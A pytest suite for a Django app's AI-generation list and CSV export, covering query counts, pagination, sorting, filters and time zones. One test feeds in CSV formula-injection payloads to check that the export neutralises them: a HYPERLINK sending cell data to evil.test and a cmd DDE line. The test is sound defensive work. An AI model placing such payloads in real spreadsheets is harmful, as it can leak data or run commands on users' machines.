import csv
import io
import re
from datetime import timedelta

import pytest
from django.http import StreamingHttpResponse
from django.utils import timezone

from generations.models import KeyLabel
from tests.factories import make_generation

pytestmark = pytest.mark.django_db

# Session + user, saved zone, the page of rows (one extra to know of a next page), the matching totals, key labels, four
# filter-choice lists, saving the zone into the session (savepoint, update, release), the fetch-worker alert, and
# the user's permissions and group permissions (the nav shows Import to members only).
# The matching totals come from the rollups, like the dashboard's: whole UTC days and the whole
# hours at the range edges are one query each (+1 over one raw-row aggregate; at most: an edge on
# a UTC midnight needs no hours).
# The filter choices are cached under the daily key rollup's largest id: +1 query when the cache
# is cold (the first page here), 1 query instead of 4 afterwards.
LIST_QUERIES = 18
# Session + user, saved zone, key labels, the rows, and the session save.
EXPORT_QUERIES = 8


@pytest.fixture
def rows():
    now = timezone.now()
    return [
        make_generation(
            f"chatcmpl-{number:03d}",
            model="openai/gpt-4o" if number % 2 else "anthropic/claude-sonnet-4",
            cost_pico=None if number == 7 else 10**9 * number,
            occurred_at=now - timedelta(minutes=number * 7 + 1),
        )
        for number in range(60)
    ]


def next_link(html):
    match = re.search(r'href="\?([^"]*after=[^"]*)" rel="next"', html)
    return match.group(1).replace("&amp;", "&") if match else None


def test_list_shows_a_page_with_detail_links(user_client, rows, django_assert_max_num_queries):
    with django_assert_max_num_queries(LIST_QUERIES):
        response = user_client.get("/generations/")
    html = response.content.decode()
    assert response.status_code == 200
    assert html.count('href="/generations/chatcmpl-') == 50
    assert 'href="/generations/chatcmpl-000/"' in html
    assert "60</strong> generations" in html
    assert "1 of unknown cost not included" in html


def test_pagination_walks_every_row_once(user_client, rows, django_assert_max_num_queries):
    seen, query = [], ""
    for number in range(5):
        # A later page skips the totals (2 queries), the session save (3) and the choices (cached: 4).
        with django_assert_max_num_queries(LIST_QUERIES if number == 0 else LIST_QUERIES - 9):
            html = user_client.get(f"/generations/?{query}").content.decode()
        seen += re.findall(r'href="/generations/(chatcmpl-\d+)/"', html)
        query = next_link(html)
        if not query:
            break
    assert sorted(seen) == sorted(row.generation_id for row in rows)
    assert len(seen) == len(set(seen))


def test_sorting_by_cost_puts_unknown_cost_last(user_client, rows):
    html = user_client.get("/generations/?sort=-cost").content.decode()
    ids = re.findall(r'href="/generations/(chatcmpl-\d+)/"', html)
    assert ids[:2] == ["chatcmpl-059", "chatcmpl-058"]
    assert 'aria-sort="descending"' in html
    html = user_client.get("/generations/?sort=cost").content.decode()
    assert re.findall(r'href="/generations/(chatcmpl-\d+)/"', html)[:2] == ["chatcmpl-000", "chatcmpl-001"]


def test_search_by_id_prefix_and_filters(user_client, rows):
    html = user_client.get("/generations/?q=chatcmpl-00&model=openai/gpt-4o").content.decode()
    assert set(re.findall(r'href="/generations/(chatcmpl-\d+)/"', html)) == {
        "chatcmpl-001",
        "chatcmpl-003",
        "chatcmpl-005",
        "chatcmpl-007",
        "chatcmpl-009",
    }


def test_htmx_gets_only_the_list_body(user_client, rows):
    html = user_client.get("/generations/", headers={"HX-Request": "true"}).content.decode()
    assert html.lstrip().startswith('<div id="list-body"')
    assert "<html" not in html


@pytest.mark.parametrize("query", ["after=%%%broken", "range=custom&start=2025-01-02&end=2025-01-01", "q=" + "x" * 300])
def test_bad_list_filters_are_a_400_with_a_message(user_client, query):
    response = user_client.get(f"/generations/?{query}")
    assert response.status_code == 400
    assert "These filters cannot be used" in response.content.decode()
    assert '<a href="/generations/">Back to the default list</a>' in response.content.decode()
    assert user_client.get(f"/generations/export.csv?{query}").status_code == 400


def test_empty_list_has_a_friendly_state(user_client):
    assert "No generations match" in user_client.get("/generations/").content.decode()


def test_export_streams_the_filtered_set_without_bodies(user_client, rows, django_assert_num_queries):
    with django_assert_num_queries(EXPORT_QUERIES) as captured:
        response = user_client.get("/generations/export.csv?model=openai/gpt-4o")
        assert isinstance(response, StreamingHttpResponse)
        content = b"".join(response.streaming_content).decode()
    assert not any("generationbody" in query["sql"] for query in captured.captured_queries)
    assert response["Content-Disposition"] == 'attachment; filename="generations.csv"'
    records = list(csv.DictReader(io.StringIO(content)))
    assert len(records) == 30
    assert {record["model"] for record in records} == {"openai/gpt-4o"}
    by_id = {record["generation_id"]: record for record in records}
    assert by_id["chatcmpl-007"]["cost_usd"] == ""
    assert by_id["chatcmpl-001"]["cost_usd"] == "0.001"


def test_list_and_detail_routes_coexist(user_client):
    make_generation("with/slash/id")
    make_generation("export.csv")
    assert user_client.get("/generations/with/slash/id/").status_code == 200
    assert user_client.get("/generations/export.csv/").status_code == 200
    assert user_client.get("/generations/").status_code == 200


def test_times_are_shown_in_the_reporting_zone(user_client):
    make_generation("tokyo", occurred_at=timezone.now() - timedelta(hours=1))
    html = user_client.get("/generations/?tz=Asia/Tokyo").content.decode()
    assert "JST</time>" in html
    assert "Asia/Tokyo" in user_client.get("/dashboard/?tz=Asia/Tokyo").content.decode()


def test_export_neutralises_formulas_in_every_name_and_keeps_numbers_numbers(user_client):
    hostile = {
        "model": '=HYPERLINK("http://evil.test/?"&A1,"open")',
        "provider": "+cmd|' /C calc'!A0",
        "api_key_hash": "@SUM(1+1)",
        "endpoint": "\r-2+3",
    }
    now = timezone.now()
    make_generation("=evil-id", cost_pico=10 * 10**12, latency_ms=2.5e16, occurred_at=now, **hostile)
    make_generation("tiny", cost_pico=1, credits_used_pico=-5 * 10**11, occurred_at=now - timedelta(minutes=1))
    KeyLabel.objects.create(api_key_hash="@SUM(1+1)", name="-1+1", team="\t=team")
    response = user_client.get("/generations/export.csv")
    content = b"".join(response.streaming_content).decode()
    evil, tiny = csv.DictReader(io.StringIO(content))
    for column, value in [*hostile.items(), ("generation_id", "=evil-id"), ("team", "\t=team")]:
        assert evil[column] == "'" + value
    assert evil["api_key_name"] == "'-1+1"
    assert (evil["cost_usd"], evil["latency_ms"]) == ("10", "25000000000000000")
    assert (tiny["cost_usd"], tiny["credits_used"]) == ("0.000000000001", "-0.5")
    assert "E+" not in content and "E-" not in content


def row_ids(html):
    return re.findall(r'href="/generations/(chatcmpl-\d+)/"', html)


def test_rows_per_page_default_to_50_and_offer_25_and_100(user_client, rows):
    html = user_client.get("/generations/").content.decode()
    assert len(row_ids(html)) == 50
    assert re.search(r'<option value="50"\s+selected>50</option>', html)
    assert len(row_ids(user_client.get("/generations/?per_page=100").content.decode())) == 60
    response = user_client.get("/generations/?per_page=10")
    assert response.status_code == 400
    assert "Rows per page: Select a valid choice" in response.content.decode()


def test_the_rows_per_page_choice_stays_in_the_pager_sort_links_and_filter_form(user_client, rows):
    html = user_client.get("/generations/?per_page=25&sort=-cost").content.decode()
    assert len(row_ids(html)) == 25
    assert re.search(r'<option value="25"\s+selected>25</option>', html)
    sort_links = re.findall(r'<th scope="col"[^>]*>\s*<a href="\?([^"]*)"', html)
    assert len(sort_links) == 7
    assert all("per_page=25" in link for link in sort_links)
    second = user_client.get(f"/generations/?{next_link(html)}").content.decode()
    assert "per_page=25" in next_link(html)
    assert len(row_ids(second)) == 25
    assert 'href="?range=7d&amp;tz=UTC&amp;sort=-cost&amp;per_page=25">First page</a>' in second
    third = user_client.get(f"/generations/?{next_link(second)}").content.decode()
    assert len(row_ids(third)) == 10
    assert set(row_ids(html) + row_ids(second) + row_ids(third)) == {row.generation_id for row in rows}
